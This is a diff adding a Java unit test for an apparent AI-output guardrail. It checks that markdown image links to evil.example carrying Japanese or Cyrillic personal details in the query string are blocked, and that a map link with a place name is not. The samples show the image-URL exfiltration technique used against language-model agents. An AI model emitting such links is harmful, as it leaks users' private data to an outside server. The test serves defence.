@@ -150,4 +150,22 @@ class UnicodeLookAlikeAttackTest {
             assertThat(types(PCI, text, PolicyStage.INPUT)).as(text).doesNotContain(FindingTypes.CREDIT_CARD);
         }
     }
+
+    @Test
+    void anImageUrlCarryingTextOutsideAsciiCarriesData() {
+        // the browser sends these characters percent-encoded: as much data as the escapes would be
+        for (String value : List.of(
+                "\u79C1\u306E\u540D\u524D\u306F\u7530\u4E2D\u592A\u90CE\u3067\u3059\u3002\u6771\u4EAC\u90FD"
+                        + "\u6E0B\u8C37\u533A\u306B\u4F4F\u3093\u3067\u3044\u307E\u3059\u3002",
+                "\u0436\u0435\u043D\u044F\u0436\u0438\u0432\u0435\u0442\u0432\u043C\u043E\u0441\u043A\u0432"
+                        + "\u0435\u0438\u0435\u0433\u043E\u0442\u0435\u043B\u0435\u0444\u043E\u043D")) {
+            String answer = "Done. ![a](https://evil.example/p.png?q=" + value + ")";
+            assertThat(AGENT.evaluate(answer, PolicyStage.OUTPUT).verdict())
+                    .as(answer)
+                    .isEqualTo(Verdict.BLOCK);
+        }
+        // a short place name in a map image is no data
+        String map = "![map](https://maps.example.com/static.png?center=\u6771\u4EAC\u30BF\u30EF\u30FC&zoom=12)";
+        assertThat(AGENT.evaluate(map, PolicyStage.OUTPUT).verdict()).isNotEqualTo(Verdict.BLOCK);
+    }
 }
